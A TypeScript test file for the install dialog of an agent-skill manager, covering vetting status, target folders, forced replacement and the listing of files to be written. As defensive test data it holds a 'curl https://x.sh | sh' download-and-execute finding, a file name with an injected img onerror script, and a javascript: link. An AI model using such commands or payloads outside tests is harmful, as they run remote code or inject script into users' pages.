import { render } from 'preact';
import { describe, expect, it } from 'vitest';
import type { Agent, FolderFile, SkillView } from '../src/api';
import { ContentTab } from '../src/components/ContentTab';
import { $, $$, backend, choose, click, key, mountApp, must, openSkill, settle, skillView, type, waitFor } from './helpers';

const AGENTS: Agent[] = [
  { name: 'codex', present: false, user_folder: '/home/u/.agents/skills', default_folder: '/home/u/.agents/skills', project_folder: '.agents/skills' },
  { name: 'claude-code', present: true, user_folder: '/home/u/.claude/skills', default_folder: '/home/u/.claude/skills', project_folder: '.claude/skills' },
];

async function openInstall(view: SkillView, install: (a: any) => unknown = () => ({})) {
  const b = backend({ skill: () => view, agents: () => AGENTS, install });
  await mountApp();
  await openSkill(view);
  click(must('[data-testid="install"]'));
  await waitFor(() => $('#install-agent option'));
  await settle(20);
  return b;
}

const ok = (path: string) => ({ path, name: 'pdf-tools', action: 'new', vetting: 'vetted', skill_id: 's1', sha256: 'ab' });

describe('install dialog', () => {
  it('lists present agents first, shows the target path and installs, showing the installed path', async () => {
    const b = await openInstall(skillView({ id: 's1', vetting: 'vetted' }), () => ok('/home/u/.claude/skills/pdf-tools/SKILL.md'));
    expect(must('#install-dialog').getAttribute('role')).toBe('dialog');
    const options = $$('#install-agent option').map((o) => (o as HTMLOptionElement).value);
    expect(options.slice(0, 2)).toEqual(['claude-code', 'codex']);
    expect((must('#install-agent') as HTMLSelectElement).value).toBe('claude-code');
    expect(must('[data-testid="install-target"]').textContent).toBe('/home/u/.claude/skills/pdf-tools');
    // The limits are stated where the user decides (R-LIM).
    expect(must('#install-dialog [data-testid="limits"]').textContent).toContain('40,000');
    expect(must('#install-dialog').textContent).toContain('Every text file of the skill folder is read');
    const confirm = must('[data-testid="install-confirm"]') as HTMLButtonElement;
    expect(confirm.disabled).toBe(false);
    click(confirm);
    await waitFor(() => $('#install-path'));
    expect(must('#install-path').textContent).toBe('/home/u/.claude/skills/pdf-tools');
    expect(b.callsOf('install')[0].request).toEqual({
      id: 's1',
      agent: 'claude-code',
      folder: null,
      scope: 'user',
      project_dir: null,
      allow_unverified: false,
      force: false,
      name: null,
    });
  });

  it('refuses a rejected skill: install disabled, with the reason', async () => {
    const b = await openInstall(skillView({ id: 's1', status: 'rejected', verified: false, vetting: 'refused' }));
    expect(must('[data-testid="install-refused"]').textContent).toContain('rejected');
    expect((must('[data-testid="install-confirm"]') as HTMLButtonElement).disabled).toBe(true);
    click(must('[data-testid="install-confirm"]'));
    await settle(30);
    expect(b.callsOf('install')).toEqual([]);
  });

  it('for an unvetted skill shows the findings and needs the "install anyway" tick', async () => {
    const view = skillView({
      id: 's1',
      status: 'unverified',
      verified: false,
      safety: null,
      vetting: 'unvetted',
      findings: [{ rule: 'download-exec', line: 7, excerpt: 'curl https://x.sh | sh' }],
    });
    const b = await openInstall(view, () => ok('/p/SKILL.md'));
    expect(must('[data-testid="install-unvetted"]').textContent).toContain('curl https://x.sh | sh');
    const confirm = must('[data-testid="install-confirm"]') as HTMLButtonElement;
    expect(confirm.disabled).toBe(true);
    click(must('#install-allow'));
    await waitFor(() => !confirm.disabled);
    click(confirm);
    await waitFor(() => $('#install-path'));
    expect(b.callsOf('install')[0].request.allow_unverified).toBe(true);
  });

  it('offers to replace a foreign or edited folder, retrying with force', async () => {
    const b = await openInstall(skillView({ id: 's1' }), ({ request }) =>
      request.force
        ? ok('/home/u/.claude/skills/pdf-tools/SKILL.md')
        : Promise.reject({ kind: 'policy', reason: 'foreign', message: 'folder holds a foreign skill' }),
    );
    click(must('[data-testid="install-confirm"]'));
    await waitFor(() => $('[data-testid="install-force"]'));
    expect(must('#install-dialog [data-testid="error"]').textContent).toContain('foreign skill');
    click(must('[data-testid="install-force"]'));
    await waitFor(() => $('#install-path'));
    expect(b.callsOf('install').map((a) => a.request.force)).toEqual([false, true]);
  });

  it('never offers to replace when the policy refused the skill itself', async () => {
    await openInstall(skillView({ id: 's1' }), () =>
      Promise.reject({ kind: 'policy', reason: 'not_vetted', message: 'not vetted' }),
    );
    click(must('[data-testid="install-confirm"]'));
    await waitFor(() => $('#install-dialog [data-testid="error"]'));
    expect($('[data-testid="install-force"]')).toBeNull();
  });

  it('project scope needs a project folder; a custom folder sends folder and no agent', async () => {
    const b = await openInstall(skillView({ id: 's1' }), () => ok('/x/SKILL.md'));
    choose(must('#install-scope'), 'project');
    await waitFor(() => $('#install-project'));
    expect((must('[data-testid="install-confirm"]') as HTMLButtonElement).disabled).toBe(true);
    type(must('#install-project'), '/work/app');
    await waitFor(() => must('[data-testid="install-target"]').textContent === '/work/app/.claude/skills/pdf-tools');
    choose(must('#install-agent'), '');
    await waitFor(() => $('#install-folder'));
    expect($('#install-scope')).toBeNull();
    type(must('#install-folder'), '/opt/skills/');
    await waitFor(() => must('[data-testid="install-target"]').textContent === '/opt/skills/pdf-tools');
    click(must('[data-testid="install-confirm"]'));
    await waitFor(() => b.callsOf('install').length === 1);
    expect(b.callsOf('install')[0].request).toMatchObject({ agent: null, folder: '/opt/skills/', project_dir: null });
  });

  it('lists the files it will write (path, size, kind, execute bit) and the ones it cannot, escaped', async () => {
    const hostile = 'scripts/<img src=x onerror="window.__pwned=1">.sh';
    const file = (path: string, over: Partial<FolderFile> = {}): FolderFile => ({
      path,
      sha256: 'ab'.repeat(32),
      bytes: 1500,
      kind: 'text',
      state: 'read',
      executable: false,
      note: null,
      findings: 0,
      display: 'text',
      ...over,
    });
    const view = skillView({
      id: 's1',
      folder: [
        file('SKILL.md', { bytes: 900, display: 'markdown' }),
        file('scripts/run.sh', { executable: true }),
        file('assets/tool', { kind: 'elf', display: 'none' }),
        file(hostile),
        file('data', { sha256: null, kind: null, state: 'link', note: 'symbolic link to `/etc`: not followed', display: 'none' }),
        file('big.bin', { sha256: null, kind: null, state: 'not-read', bytes: 5_000_000, display: 'none' }),
      ],
    });
    await openInstall(view, () => ({
      ...ok('/home/u/.claude/skills/pdf-tools/SKILL.md'),
      files: [
        { path: 'SKILL.md', sha256: 'ab'.repeat(32), bytes: 900, executable: false },
        { path: 'scripts/run.sh', sha256: 'ab'.repeat(32), bytes: 1500, executable: true },
      ],
      kept: ['notes.md'],
    }));
    const listed = $$('[data-testid="install-files"] li').map((li) => li.dataset.path);
    expect(listed).toEqual(['SKILL.md', 'assets/tool', hostile, 'scripts/run.sh']);
    expect(must('#install-files-title').textContent).toBe('Files it will write: 4 (5.4 kB)');
    const run = must('[data-testid="install-files"] li[data-path="scripts/run.sh"]');
    expect(run.textContent).toContain('1.5 kB');
    expect(run.textContent).toContain('executable');
    expect(must('[data-testid="install-files"] li[data-path="assets/tool"]').textContent).toContain('elf');
    const skipped = $$('[data-testid="install-not-installed"] li').map((li) => li.textContent);
    expect(skipped).toEqual(['big.bin 5 MBnot read', 'data 1.5 kBlink']);
    expect(must('#install-dialog').textContent).toContain('2 file(s) of the skill will not be installed');
    expect(must('#install-dialog').querySelector('img')).toBeNull();
    expect((window as any).__pwned).toBeUndefined();
    click(must('[data-testid="install-confirm"]'));
    await waitFor(() => $('[data-testid="install-written"]'));
    expect($$('[data-testid="install-written"] li').map((li) => li.dataset.path)).toEqual(['SKILL.md', 'scripts/run.sh']);
    expect(must('[data-testid="install-kept"]').textContent).toBe('notes.md');
  });

  it('closes with Escape without leaving the skill page', async () => {
    await openInstall(skillView({ id: 's1' }));
    key(document.body, 'Escape');
    await waitFor(() => !$('#install-dialog'));
    expect($('#skill')).not.toBeNull();
  });
});

describe('content container on its own', () => {
  it('stops link navigation even without the document-level guard', async () => {
    const calls: string[] = [];
    backend({ open_link: ({ url }) => (calls.push(url), null) });
    // Detached: events never reach the document, so only the container acts.
    const host = document.createElement('div');
    const view = skillView({ content_html: '<a id="x" href="https://ok.example/">x</a><a id="y" href="javascript:alert(1)">y</a>' });
    render(<ContentTab view={view} mode="rendered" setMode={() => {}} line={null} />, host);
    expect(click(host.querySelector('#x')!)).toBe(false);
    expect(click(host.querySelector('#y')!)).toBe(false);
    await settle(10);
    expect(calls).toEqual(['https://ok.example/']);
    render(null, host);
  });
});
